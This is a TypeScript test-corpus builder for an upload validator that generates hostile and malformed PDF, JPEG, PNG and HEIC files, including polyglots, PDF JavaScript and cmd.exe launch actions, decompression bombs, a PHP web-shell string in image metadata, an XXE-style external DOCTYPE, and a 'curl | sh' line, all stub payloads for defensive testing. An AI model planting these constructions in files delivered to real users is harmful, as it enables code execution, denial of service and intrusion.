import { createHash } from "node:crypto";
import { deflateSync, gzipSync } from "node:zlib";
import { PDFDocument, PDFName, PDFString } from "@cantoo/pdf-lib";
import type { Cause } from "../../functions/accept-uploads/causes.ts";
import type { AttachmentType } from "../../shared/domain/submission/submission.ts";
import { type CorpusFile, type HostileFile, joined, zip } from "./corpus.ts";
import { bearing, flate, invoiceXml, objectStream, type PdfPart, type RawPdf, rawPdf } from "./pdf-files.ts";
import { chunk, heic, jpeg, jpegOfSize, jpegWith, pngHead, rawPng, segment } from "./photo-files.ts";

const pdf = "application/pdf";
const types = [pdf, "image/jpeg", "image/png", "image/heic"] as const satisfies readonly AttachmentType[];
const ending: Readonly<Record<AttachmentType, string>> = {
  "application/pdf": "pdf",
  "image/jpeg": "jpg",
  "image/png": "png",
  "image/heic": "heic",
};

const file = (contentType: AttachmentType, name: string, bytes: Uint8Array, cause: Cause): HostileFile => ({
  name,
  fileName: `${name.replaceAll(" ", "-")}.${ending[contentType]}`,
  contentType,
  bytes,
  cause,
});

/** Makes a small valid file of each type. */
async function trueFiles(): Promise<Readonly<Record<AttachmentType, Buffer>>> {
  return { [pdf]: rawPdf(), "image/jpeg": jpeg(), "image/png": rawPng(), "image/heic": await heic() };
}

const html = "<!doctype html><html><script>alert(document.domain)</script></html>";
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const exe = joined("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff", Buffer.alloc(64), "PE\0\0", Buffer.alloc(256, 1));

/** Files of other types, under the name of each accepted type. */
function otherTypes(): readonly HostileFile[] {
  const others: Readonly<Record<string, Uint8Array>> = {
    "a program of Windows": exe,
    "a program of Linux": joined("\x7fELF\x02\x01\x01", Buffer.alloc(256)),
    "a page of the web": joined(html),
    "a drawing with a script": joined('<?xml version="1.0"?>', svg),
    "a compressed folder": zip(),
    "a document of Word with macros": zip("word/vbaProject.bin", "Attribute VB_Name"),
    "an old document of Word": joined(Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(512)),
    "a GIF": joined("GIF89a\x01\0\x01\0\0\0\0;"),
    "a script of the shell": joined("#!/bin/sh\ncurl http://example.pe | sh\n"),
  };
  return Object.entries(others).flatMap(([name, bytes]) =>
    types.map((type) => file(type, `${name} called ${ending[type]}`, bytes, "other-type")),
  );
}

function emptyAndOther(own: Readonly<Record<AttachmentType, Buffer>>): readonly HostileFile[] {
  const sha256 = createHash("sha256").update("another").digest("hex");
  return types.flatMap((type): HostileFile[] => [
    file(type, "nothing at all", new Uint8Array(), "empty"),
    file(type, "only blanks", Buffer.alloc(64, 0x20), "other-type"),
    { ...file(type, "other bytes than announced", own[type], "not-as-announced"), announced: { sha256 } },
    { ...file(type, "fewer bytes than announced", own[type], "not-as-announced"), announced: { sizeBytes: 9_999_999 } },
  ]);
}

function mistaken(own: Readonly<Record<AttachmentType, Buffer>>): readonly HostileFile[] {
  return types.flatMap((type) =>
    types
      .filter((other) => other !== type)
      .map((other) => file(type, `a ${ending[other]} called ${ending[type]}`, own[other], "other-type")),
  );
}

function cutShort(own: Readonly<Record<AttachmentType, Buffer>>): readonly HostileFile[] {
  const cut = (type: AttachmentType, part: number, cause: Cause) =>
    file(type, `cut after ${part * 100} %`, own[type].subarray(0, Math.floor(own[type].length * part)), cause);
  return [
    cut(pdf, 0.5, "incomplete"),
    cut(pdf, 0.9, "incomplete"),
    file(pdf, "cut before its last words", own[pdf].subarray(0, own[pdf].lastIndexOf("startxref")), "incomplete"),
    cut("image/jpeg", 0.3, "incomplete"),
    cut("image/jpeg", 0.7, "incomplete"),
    cut("image/jpeg", 0.99, "incomplete"),
    cut("image/png", 0.8, "incomplete"),
    cut("image/heic", 0.5, "incomplete"),
    cut("image/heic", 0.95, "incomplete"),
  ];
}

/** Two files in one: a second one after, before or inside the first. */
function polyglots(own: Readonly<Record<AttachmentType, Buffer>>): readonly HostileFile[] {
  const behind: Readonly<Record<string, Uint8Array | string>> = {
    "a compressed folder": zip(),
    "a page of the web": html,
    "a program": exe,
  };
  const zipped = zip();
  zipped.writeUInt16LE("\n%%EOF\n".length, zipped.length - 2);
  return [
    ...types.flatMap((type) =>
      Object.entries(behind).map(([name, more]) => file(type, `${name} behind`, joined(own[type], more), "two-in-one")),
    ),
    ...types.map((type) => file(type, "an archive behind", joined(own[type], "Rar!\x1a\x07\x01\0", "x"), "two-in-one")),
    ...types.map((type) => file(type, "something unknown behind", joined(own[type], "\x02\x01secret"), "two-in-one")),
    file(pdf, "a page of the web before it", joined(html, "\n", own[pdf]), "two-in-one"),
    file(pdf, "a photo before it", joined(jpeg(16, 16), own[pdf]), "two-in-one"),
    file(pdf, "a folder in a comment before its end", joined(rawPdf(), "%", zipped, "\n%%EOF\n"), "two-in-one"),
    file(
      pdf,
      "an archive in a stream",
      rawPdf({ objects: [{ dictionary: "", data: joined("7z\xbc\xaf\x27\x1c") }] }),
      "two-in-one",
    ),
    file("image/jpeg", "a PDF in its note", jpegWith([segment(0xfe, "\n%PDF-1.7\n1 0 obj\n")]), "two-in-one"),
    file(
      "image/png",
      "a PDF in its note",
      rawPng({ notes: [chunk("tEXt", "Comment\0%PDF-1.7 1 0 obj")] }),
      "two-in-one",
    ),
    file("image/jpeg", "another photo behind, unannounced", joined(jpeg(), jpeg(16, 16)), "two-in-one"),
  ];
}

/** What looks like one picture or paper, and carries or shows another file. */
function carriers(own: Readonly<Record<AttachmentType, Buffer>>): readonly HostileFile[] {
  const carried = {
    "a program": exe,
    "a compressed folder": zip("A.class", `\xca\xfe\xba\xbe${"\0".repeat(70_000)}`),
    "a page of the web": joined(html),
  };
  const sefd = (body: Uint8Array) => joined(body, "SEFH\x6b\0\0\0SEFT");
  const head = (length: number) => Buffer.from([0, 0, length >> 8, length & 0xff]);
  const xmp = (text: string) => segment(0xe1, `http://ns.adobe.com/xap/1.0/\0<x ${text}/>`);
  const film = (body: Uint8Array) => joined(head(24), "ftypmp42\0\0\0\0mp42isom", body);
  const blankBehind = Buffer.alloc(70_000);
  const pictures = Object.entries(carried).flatMap(([name, bytes]) => {
    const body = joined(bytes, blankBehind);
    const hidden = joined(jpegWith([segment(0xe4, bytes.subarray(0, 60_000))], jpeg(16, 16)));
    return [
      file("image/jpeg", `${name} in its maker's notes behind`, joined(jpeg(), sefd(body)), "two-in-one"),
      file(
        "image/jpeg",
        `${name} in a moment of film`,
        joined(jpegWith([xmp("GCamera:MotionPhoto='1'")]), film(body)),
        "two-in-one",
      ),
      file(
        "image/jpeg",
        `${name} in its second picture`,
        joined(jpegWith([segment(0xe2, "MPF\0MM\0*")]), hidden),
        "two-in-one",
      ),
      file("image/png", `${name} in a part of its own`, rawPng({ notes: [chunk("prVt", body)] }), "program"),
      file(
        "image/png",
        `${name} in a compressed note`,
        rawPng({ notes: [chunk("zTXt", joined("Comment\0\0", deflateSync(body)))] }),
        "program",
      ),
      file(
        "image/heic",
        `${name} in a box of its own`,
        joined(
          own["image/heic"],
          head(24 + bytes.length),
          "uuid",
          Buffer.alloc(16, 7),
          bytes,
          Buffer.from([0, 1, 0x11, 0x78]),
          "free",
          blankBehind,
        ),
        "two-in-one",
      ),
      file(pdf, `${name} in a stream`, rawPdf({ objects: [{ dictionary: "", data: body }] }), "two-in-one"),
      file(pdf, `${name} in a compressed stream`, rawPdf({ objects: [flate(body)] }), "two-in-one"),
    ];
  });
  const form = "/Type /XObject /Subtype /Form /BBox [0 0 99 99]";
  const unc = "(\\\\\\\\example.pe\\\\a\\\\b.pdf)";
  const spec = `<< /Type /Filespec /F ${unc} >>`;
  const drawing = (more: string) => rawPdf({ objects: [{ dictionary: `${form} ${more}`, data: joined("q Q") }] });
  const elsewhere: readonly (readonly [name: string, bytes: Uint8Array])[] = [
    ["a stream in another file", drawing(`/F ${unc}`)],
    ["a stream in another file, by its description", drawing(`/F ${spec} /FFilter /FlateDecode`)],
    ["a page of another file", drawing(`/Ref << /F ${unc} /Page 0 >>`)],
    ["a picture to be put in by who prints", drawing(`/OPI << /2.0 << /Type /OPI /Version 2.0 /F ${unc} >> >>`)],
    ["the name of a file of the network", rawPdf({ objects: [spec] })],
    [
      "a profile of colours elsewhere",
      rawPdf({ catalog: "/OutputIntents [<< /DestOutputProfileRef << /URLs [] >> >>]" }),
    ],
    ["a page of another file in compressed objects", rawPdf({ objects: ["null", objectStream([[9, spec]])] })],
  ];
  const attached: readonly (readonly [name: string, bytes: Uint8Array])[] = [
    ["a program called an invoice", bearing(["factura.xml", exe])],
    ["an invoice called a program", bearing(["factura.exe", invoiceXml()])],
    ["an invoice and a program", bearing(["factura.xml", invoiceXml()], ["carta.xml", exe])],
    ["an invoice with a script", bearing(["factura.xml", invoiceXml("<script>alert(1)</script>")])],
    [
      "an invoice that fetches",
      bearing(["factura.xml", invoiceXml().replace("<Invoice", '<!DOCTYPE a SYSTEM "http://example.pe"><Invoice')]),
    ],
    [
      "an invoice drawn by another file",
      bearing(["factura.xml", invoiceXml().replace("<Invoice", '<?xml-stylesheet href="a.xsl"?><Invoice')]),
    ],
    ["an invoice that swells", bearing(["factura.xml", invoiceXml(" ".repeat(2_100_000))])],
    ["another XML", bearing(["datos.xml", "<svg/>"])],
    [
      "an invoice, and a file in a comment",
      joined(bearing(["factura.xml", invoiceXml()]), "% /EmbeddedFile /EmbeddedFile /EmbeddedFile\n%%EOF\n"),
    ],
    [
      "an invoice in a note",
      joined(
        bearing(["factura.xml", invoiceXml()])
          .toString("latin1")
          .replace("/MediaBox", "/Annots [<< /Subtype /FileAttachment /FS 4 0 R >>] /MediaBox"),
      ),
    ],
  ];
  return [
    ...pictures,
    ...elsewhere.map(([name, bytes]) => file(pdf, name, bytes, "elsewhere")),
    ...attached.map(([name, bytes]) => file(pdf, name, bytes, "other-files")),
  ];
}

const script = "<< /S /JavaScript /JS (app.alert(1)) >>";
interface Scripted {
  readonly name: string;
  readonly cause: Cause;
  readonly parts: Pick<RawPdf, "catalog" | "page" | "objects">;
}
const annotation = (text: string) => ({
  page: "/Annots [4 0 R]",
  objects: [`<< /Type /Annot /Rect [0 0 9 9] ${text} >>`],
});
const scripted: readonly Scripted[] = [
  { name: "a script on opening", cause: "program", parts: { catalog: `/OpenAction ${script}` } },
  {
    name: "a script in a list of names",
    cause: "program",
    parts: { catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` },
  },
  { name: "a script on a page", cause: "program", parts: { page: `/AA << /O ${script} >>` } },
  { name: "a script on closing", cause: "program", parts: { catalog: `/AA << /WC ${script} >>` } },
  { name: "a script on a link", cause: "program", parts: annotation(`/Subtype /Link /A ${script}`) },
  {
    name: "a script in a field",
    cause: "program",
    parts: annotation(`/Subtype /Widget /FT /Tx /AA << /K ${script} >>`),
  },
  {
    name: "a script after a step",
    cause: "program",
    parts: annotation(`/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>`),
  },
  {
    name: "a script with its name escaped",
    cause: "program",
    parts: { catalog: "/OpenAction << /S /J#61v#61Script /J#53 (1) >>" },
  },
  { name: "a program started", cause: "program", parts: { catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" } },
  {
    name: "a program started by a link",
    cause: "program",
    parts: annotation("/Subtype /Link /A << /S /Launch /Win << /F (cmd.exe) >> >>"),
  },
  {
    name: "a file inside",
    cause: "other-files",
    parts: {
      catalog: "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
      objects: ["<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"],
    },
  },
  {
    name: "a file in a note",
    cause: "other-files",
    parts: annotation("/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"),
  },
  { name: "a portfolio", cause: "other-files", parts: { catalog: "/Collection << /View /D >>" } },
  {
    name: "a way into a file inside",
    cause: "other-files",
    parts: { catalog: "/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>" },
  },
  { name: "a form of another language", cause: "live-form", parts: { catalog: "/AcroForm << /XFA (<xdp/>) >>" } },
  {
    name: "a form of another language in parts",
    cause: "live-form",
    parts: { catalog: "/AcroForm << /Fields [] /XFA [(config) 4 0 R] >>", objects: [flate(Buffer.from("<xdp/>"))] },
  },
  { name: "a video", cause: "media", parts: annotation("/Subtype /RichMedia") },
  { name: "a film", cause: "media", parts: annotation("/Subtype /Movie /Movie << /F (a.avi) >>") },
  { name: "a sound", cause: "media", parts: annotation("/Subtype /Sound") },
  { name: "a screen", cause: "media", parts: annotation("/Subtype /Screen") },
  { name: "a figure in three dimensions", cause: "media", parts: annotation("/Subtype /3D") },
  { name: "a rendition", cause: "media", parts: { catalog: "/OpenAction << /S /Rendition /OP 0 >>" } },
  {
    name: "a form that sends itself",
    cause: "acts-alone",
    parts: annotation("/Subtype /Link /A << /S /SubmitForm /F (http://example.pe) >>"),
  },
  {
    name: "a form that fills itself",
    cause: "acts-alone",
    parts: annotation("/Subtype /Link /A << /S /ImportData /F (a.fdf) >>"),
  },
  {
    name: "a way into another file",
    cause: "acts-alone",
    parts: annotation("/Subtype /Link /A << /S /GoToR /F (//example.pe/a) /D [0 /Fit] >>"),
  },
  {
    name: "a way into another file, where a link keeps its own",
    cause: "acts-alone",
    parts: annotation("/Subtype /Link /PA << /S /GoToR /F (//example.pe/a) /D [0 /Fit] >>"),
  },
  ...(
    [
      ["a script as an address", "/S /URI /URI (javascript:alert\\(1\\))"],
      ["a script as an address behind a blank", "/S /URI /URI ( javascript:alert\\(1\\))"],
      ["a script as an address in sixteens", "/S /URI /URI <6a6176617363726970743a616c65727428312900>"],
      ["a script as an address of 16 bits", "/S /URI /URI <feff006a006100760061007300630072006900700074003a0031>"],
      ["a file of the machine as an address", "/S /URI /URI (file:///C:/Windows/System32/cmd.exe)"],
      ["a machine of the network as an address", "/S /URI /URI (//example.pe/a)"],
      ["a program's own address", "/S /URI /URI (ms-msdt:/id PCWDiagnostic)"],
      ["data as an address", "/S /URI /URI (data:text/html,a)"],
      ["an address that is no text", "/S /URI /URI /javascript:1"],
      ["a thread of another file", "/S /Thread /F (//example.pe/a.pdf) /D 0"],
      ["an act nobody knows", "/S /OpenFile /F (a.exe)"],
    ] as const
  ).map(
    ([name, action]): Scripted => ({
      name: `a link to ${name}`,
      cause: "other-links",
      parts: annotation(`/Subtype /Link /A << ${action} >>`),
    }),
  ),
  {
    name: "an act nobody knows after a step",
    cause: "other-links",
    parts: annotation("/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /OpenFile /F (a.exe) >>] >>"),
  },
  {
    name: "links that begin with a script",
    cause: "other-links",
    parts: {
      catalog: "/URI << /Base (javascript:) >>",
      ...annotation("/Subtype /Link /A << /S /URI /URI (#alert\\(1\\)) >>"),
    },
  },
  {
    name: "a site on opening",
    cause: "acts-alone",
    parts: { catalog: "/OpenAction << /S /URI /URI (http://example.pe) >>" },
  },
  {
    name: "a site on a page's opening",
    cause: "acts-alone",
    parts: { page: "/AA << /O << /S /URI /URI (http://example.pe) >> >>" },
  },
];

/** Each scripted PDF twice: written out, and in a compressed stream of objects. */
function actingPdfs(): readonly HostileFile[] {
  return scripted.flatMap(({ name, cause, parts: { catalog = "", page = "", objects = [] } }) => {
    const [own] = objects;
    const inside: [number, string][] = [
      [1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`],
      [2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"],
      [3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${page} >>`],
      ...(typeof own === "string" ? [[4, own] as [number, string]] : []),
    ];
    return [
      file(pdf, name, rawPdf({ catalog, page, objects }), cause),
      file(pdf, `${name} in compressed objects`, rawPdf({ objects: ["null", objectStream(inside)] }), cause),
    ];
  });
}

/** PDFs of a library, with something harmful that the same library added. */
async function byLibrary(): Promise<readonly HostileFile[]> {
  const made = async (change: (document: PDFDocument) => unknown) => {
    const document = await PDFDocument.create({ updateMetadata: false });
    document.addPage();
    await change(document);
    return document.save();
  };
  return [
    file(pdf, "a script by pdf-lib", await made((one) => one.addJavaScript("a", "app.alert(1)")), "program"),
    file(pdf, "a file by pdf-lib", await made((one) => one.attach(exe, "carta.exe")), "other-files"),
    file(
      pdf,
      "a launch by pdf-lib",
      await made((one) =>
        one.catalog.set(PDFName.of("OpenAction"), one.context.obj({ S: "Launch", F: PDFString.of("cmd.exe") })),
      ),
      "program",
    ),
  ];
}

/** PDFs in which one reader sees a script and another does not. */
function disguised(): readonly HostileFile[] {
  const harmless = "<< /S /GoTo /D [3 0 R /Fit] >>";
  const early = rawPdf({ catalog: "/OpenAction 4 0 R", objects: [objectStream([[4, script]]), "null"] });
  const update = joined("4 0 obj\n", harmless, "\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n");
  const inside = objectStream([[6, "/ObjStm"]]);
  const hidden = objectStream([[7, script]], "/Type 6 0 R");
  return [
    file(pdf, "a script that a later object covers", joined(early, update), "program"),
    file(
      pdf,
      "a script in a comment",
      joined(rawPdf({ catalog: "/OpenAction 9 0 R" }).subarray(0, -1), `\n% 9 0 obj ${script} endobj\n%%EOF\n`),
      "program",
    ),
    file(
      pdf,
      "a stream of objects under another name",
      rawPdf({ catalog: "/OpenAction 7 0 R", objects: [hidden, inside] }),
      "damaged",
    ),
    file(
      pdf,
      "a stream of objects in an unusual code",
      rawPdf({
        objects: [
          {
            dictionary: "/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode]",
            data: joined(Buffer.from(`9 0 ${script}`).toString("hex"), ">"),
          },
        ],
      }),
      "too-hard",
    ),
  ];
}

/**
 * PDFs whose tables and streams announce more objects than there are: a reader that believes them allocates the memory
 * first.
 */
function promises(): readonly HostileFile[] {
  const table = (run: string, size: string) =>
    joined(
      "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n",
      "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >> endobj\n",
      `xref\n${run}\n0000000000 65535 f \ntrailer << /Size ${size} /Root 1 0 R >>\nstartxref\n200\n%%EOF\n`,
    );
  const rows = Buffer.from([0, 0, 0, 0, 0, 1, 0, 9, 0, 0]);
  const stream = (entries: string) => rawPdf({ objects: [flate(rows, `/Type /XRef /Root 1 0 R ${entries}`)] });
  const said: readonly (readonly [name: string, bytes: Uint8Array])[] = [
    ["a table of 100 million objects", table("0 100000000", "100000000")],
    ["a table of 8 million objects", table("0 8000000", "4")],
    ["a table of many parts", table(Array.from({ length: 50 }, (_, at) => `${at} 90000`).join("\n"), "4")],
    ["a table that begins at 900 million", table("900000000 1", "4")],
    ["100 million objects", rawPdf({ trailer: "", objects: ["<< /Size 100000000 >>"] })],
    ["a stream of 100 million entries", stream("/Size 100000000 /W [1 2 2]")],
    ["a stream of 8 million entries", stream("/Size 8000000 /W [1 2 2]")],
    ["a stream of a part of 8 million entries", stream("/Size 4 /Index [0 8000000] /W [1 2 2]")],
    ["a stream of entries of no bytes", stream("/Size 4 /Index [0 8000000] /W [0 0 0]")],
    ["a stream of 100 million entries, its name escaped", stream("/Si#7ae 100000000 /W [1 2 2]")],
    [
      "a stream of 100 million entries, far before it",
      stream(`/Size 4 /Index [0 100000000] /W [1 2 2] ${" ".repeat(2_000)}`),
    ],
  ];
  return said.map(([name, bytes]) => file(pdf, name, bytes, "more-than-it-holds"));
}

const flateText = (data: Uint8Array) => deflateSync(data).toString("hex");
const gigabyte = () => deflateSync(Buffer.alloc(1_000_000_000), { level: 9 });

/** Small files that become too large when they are opened. */
function bombs(quick: boolean): readonly HostileFile[] {
  const swollen = quick ? deflateSync(Buffer.alloc(130_000_000), { level: 9 }) : gigabyte();
  const large = flate(Buffer.alloc(100_000_000));
  const note = deflateSync(Buffer.alloc(64_000_000));
  const kids = Array.from({ length: 501 }, (_, index) => `${index + 4} 0 R`).join(" ");
  const manyPages = Array.from({ length: 501 }, () => "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>");
  const stream = (more: string, data: Uint8Array) =>
    rawPdf({ objects: [{ dictionary: `${more} /Filter /FlateDecode`, data }] });
  return [
    file(pdf, "a stream that swells", stream("", swollen), "too-much-inside"),
    file(pdf, "a picture that swells", stream("/Subtype /Image /Width 9 /Height 9", swollen), "too-much-inside"),
    file(
      pdf,
      "a stream compressed twice",
      rawPdf({ objects: [{ dictionary: "/Filter [/FlateDecode /FlateDecode]", data: deflateSync(swollen) }] }),
      "too-much-inside",
    ),
    file(
      pdf,
      "a stream that swells, of a small window",
      stream("", deflateSync(Buffer.alloc(130_000_000), { level: 9, windowBits: 9 })),
      "too-much-inside",
    ),
    file(
      pdf,
      "a stream that swells, in another code",
      rawPdf({
        objects: [
          { dictionary: "/Filter [/ASCIIHexDecode /FlateDecode]", data: joined(flateText(Buffer.alloc(1_000)), ">") },
        ],
      }),
      "too-hard",
    ),
    file(
      pdf,
      "objects that swell",
      stream("/Type /ObjStm /N 1 /First 4", deflateSync(Buffer.alloc(33_000_000, 0x20))),
      "too-much-inside",
    ),
    file(
      pdf,
      "many streams that swell",
      rawPdf({ objects: Array.from({ length: 6 }, () => large) }),
      "too-much-inside",
    ),
    file(
      pdf,
      "an end of stream put early",
      rawPdf({ objects: [{ dictionary: "/Filter /FlateDecode", data: joined(swollen, "\nendstream\n") }] }),
      "too-much-inside",
    ),
    file(
      pdf,
      "too many pages",
      rawPdf({ pages: `<< /Type /Pages /Kids [${kids}] /Count 501 >>`, objects: manyPages }),
      "too-many-pages",
    ),
    file(
      pdf,
      "no pages",
      joined(
        "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
      ),
      "no-pages",
    ),
    file(pdf, "a page of the web inside", joined("%PDF-1.7\n", html, "\n%%EOF\n"), "no-pages"),
    file(
      pdf,
      "a picture of 2,500 million points",
      rawPdf({ objects: [flate(Buffer.alloc(64), "/Subtype /Image /Width 50000 /Height 50000")] }),
      "too-many-pixels",
    ),
    file(pdf, "lists within lists", rawPdf({ objects: ["[".repeat(200_000)] }), "damaged"),
    file(pdf, "an object without an end", rawPdf({ objects: ["<< /A (never closed"] }), "damaged"),
    file(pdf, "a stream of gzip", joined("%PDF-1.7\n", gzipSync(Buffer.alloc(99)), "\n%%EOF\n"), "no-pages"),
    file("image/jpeg", "65,535 points each way", jpegOfSize(65_535, 65_535), "too-many-pixels"),
    file("image/jpeg", "no width", jpegOfSize(0, 100), "damaged"),
    file(
      "image/jpeg",
      "without a picture",
      joined(Buffer.from("ffd8", "hex"), segment(0xe0, "JFIF\0\x01\x01\0\0\x01\0\x01\0\0"), Buffer.from("ffd9", "hex")),
      "damaged",
    ),
    file(
      "image/jpeg",
      "a part that says it has no length",
      joined(Buffer.from("ffd8ffe00000", "hex"), jpeg().subarray(2)),
      "damaged",
    ),
    file("image/jpeg", "a thousand scans", manyScans(), "too-much-inside"),
    file(
      "image/png",
      "144 million points of one bit",
      rawPng({ width: 12_000, height: 12_000, depth: 1 }),
      "too-many-pixels",
    ),
    file(
      "image/png",
      "50,000 points each way",
      rawPng({ width: 50_000, height: 50_000, picture: Buffer.alloc(64) }),
      "too-many-pixels",
    ),
    file(
      "image/png",
      "a second head of 60,000 points each way",
      rawPng({ notes: [rawPng({ width: 60_000, height: 60_000, picture: Buffer.alloc(0) }).subarray(8, 33)] }),
      "damaged",
    ),
    file(
      "image/png",
      "57 million points of 16 bits",
      rawPng({ width: 7_600, height: 7_500, depth: 16 }),
      "too-many-pixels",
    ),
    file("image/png", "a picture that swells", rawPng({ picture: Buffer.alloc(64_000_000) }), "too-much-inside"),
    file("image/png", "a picture that is too short", rawPng({ picture: Buffer.alloc(64) }), "incomplete"),
    file(
      "image/png",
      "a note that swells",
      rawPng({ notes: [chunk("zTXt", joined("Comment\0\0", note))] }),
      "too-much-inside",
    ),
    file(
      "image/png",
      "a profile that swells",
      rawPng({ notes: [chunk("iCCP", joined("icc\0\0", note))] }),
      "too-much-inside",
    ),
    file(
      "image/png",
      "a moving picture",
      rawPng({ notes: [chunk("acTL", Buffer.from([0, 0, 0x7f, 0xff, 0, 0, 0, 0]))] }),
      "animated",
    ),
    file("image/png", "no picture", joined(pngHead, rawPng().subarray(8, 33), chunk("IEND", "")), "damaged"),
    file("image/png", "no width", rawPng({ width: 0 }), "damaged"),
    file(
      "image/png",
      "a part nobody knows that must be known",
      rawPng({ notes: [chunk("EVIL", "a")] }),
      "unknown-part",
    ),
    file(
      "image/png",
      "a part of one maker alone",
      rawPng({ notes: [chunk("CgBI", "\x50\0\x20\x02")] }),
      "unknown-part",
    ),
    file("image/png", "a part without letters", rawPng({ notes: [chunk("\0\0\0\0", "a")] }), "unknown-part"),
  ];
}

function manyScans(): Buffer {
  const photo = jpeg(16, 16);
  const scan = photo.subarray(photo.indexOf(Buffer.from([0xff, 0xda])), -2);
  return joined(photo.subarray(0, -2), ...Array.from({ length: 1_000 }, () => scan), photo.subarray(-2));
}

/** Pictures with code in their metadata. */
function notes(): readonly HostileFile[] {
  const php = "<?php system($_GET['c']); ?>";
  const spoilt = Buffer.from(rawPng());
  spoilt[20] = (spoilt[20] ?? 0) + 1;
  return [
    file("image/jpeg", "a script in its comment", jpegWith([segment(0xfe, html)]), "program"),
    file(
      "image/jpeg",
      "a script's address in its comment",
      jpegWith([segment(0xfe, "javascript:alert(1)")]),
      "program",
    ),
    file("image/jpeg", "a script in its Exif", jpegWith([segment(0xe1, `Exif\0\0${php}`)]), "program"),
    file(
      "image/jpeg",
      "a script in its XMP",
      jpegWith([segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${svg}`)]),
      "program",
    ),
    file("image/png", "a script in its text", rawPng({ notes: [chunk("tEXt", `Comment\0${html}`)] }), "program"),
    file(
      "image/png",
      "a script in compressed text",
      rawPng({ notes: [chunk("zTXt", joined("Comment\0\0", deflateSync(Buffer.from(php))))] }),
      "program",
    ),
    file(
      "image/png",
      "a script in compressed text of the world",
      rawPng({ notes: [chunk("iTXt", joined("xml\0\x01\0\0\0", deflateSync(Buffer.from(svg))))] }),
      "program",
    ),
    file("image/png", "a sum that is wrong", spoilt, "damaged"),
  ];
}

async function badHeics(): Promise<readonly HostileFile[]> {
  const photo = await heic();
  const sized = (width: number, height: number) => {
    const bytes = Buffer.from(photo);
    for (let at = bytes.indexOf("ispe"); at >= 0; at = bytes.indexOf("ispe", at + 4)) {
      bytes.writeUInt32BE(width, at + 8);
      bytes.writeUInt32BE(height, at + 12);
    }
    return bytes;
  };
  const avif = Buffer.from(photo);
  avif.write("avif", 8, "latin1");
  const without = Buffer.from(photo);
  without.write("free", photo.indexOf("meta"), "latin1");
  const metaOf = (bytes: Buffer) => {
    const from = bytes.indexOf("meta") - 4;
    return bytes.subarray(from, from + bytes.readUInt32BE(from));
  };
  return [
    file("image/heic", "another kind of picture", avif, "other-type"),
    file("image/heic", "4,000 million points", sized(65_535, 65_535), "too-many-pixels"),
    file("image/heic", "no width", sized(0, 64), "damaged"),
    file("image/heic", "nothing said of it", without, "damaged"),
    file("image/heic", "two things said of it", joined(photo, metaOf(photo)), "damaged"),
    file("image/heic", "a film", joined(photo, Buffer.from([0, 0, 0, 8]), "moov"), "animated"),
    file("image/heic", "only its head", photo.subarray(0, photo.readUInt32BE(0)), "damaged"),
  ];
}

async function locked(): Promise<readonly HostileFile[]> {
  const document = await PDFDocument.create({ updateMetadata: false });
  document.addPage().drawText("Reclamo");
  document.encrypt({ userPassword: "clave", ownerPassword: "otra" });
  return [file(pdf, "a password", await document.save(), "password")];
}

/** Returns the heavy file that reaches its thread's limits soonest. */
export function heavyDictionary(): HostileFile {
  const entries = Array.from({ length: 900_000 }, (_, at) => `/${at.toString(36)} 1`).join(" ");
  return file(pdf, "a dictionary of a million entries", rawPdf({ objects: [`<< ${entries} >>`] }), "too-hard");
}

/** Valid files that take more memory or time than a reader has: only the thread's own limits stop them. */
export function heavyFiles(): readonly HostileFile[] {
  const objects = Array.from({ length: 1_500_000 }, (_, at) => [at + 9, "<<>>"] as const);
  return [
    file(
      pdf,
      "hundreds of thousands of objects",
      rawPdf({ objects: Array.from({ length: 200_000 }, () => "<<>>") }),
      "too-hard",
    ),
    file(pdf, "a million compressed objects", rawPdf({ objects: [objectStream(objects)] }), "too-hard"),
    heavyDictionary(),
    file(pdf, "a list of millions of numbers", rawPdf({ objects: [`[${"1 ".repeat(4_900_000)}]`] }), "too-hard"),
  ];
}

/** Returns files that are harmful or cannot be read: none may pass. `quick` makes the largest ones smaller. */
export async function hostileFiles({ quick }: { readonly quick: boolean }): Promise<readonly HostileFile[]> {
  const own = await trueFiles();
  return [
    ...otherTypes(),
    ...emptyAndOther(own),
    ...mistaken(own),
    ...cutShort(own),
    ...polyglots(own),
    ...carriers(own),
    ...actingPdfs(),
    ...(await byLibrary()),
    ...disguised(),
    ...promises(),
    ...bombs(quick),
    ...notes(),
    ...(await badHeics()),
    ...(await locked()),
  ];
}

/** Small valid PDFs that take minutes to draw: only the limits of their thread stop them. */
export function heavyDrawings(): readonly CorpusFile[] {
  const pattern = (inner: string, paint: string): PdfPart => ({
    dictionary: `/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 0.02 /YStep 0.02 /Resources << ${inner} >>`,
    data: joined(paint),
  });
  const painted = "/Pattern cs /P scn 0 0 595 842 re f";
  const powers = `{ 2 copy ${"dup mul sin exch dup mul cos exch ".repeat(400)}pop pop dup dup }`;
  const shading =
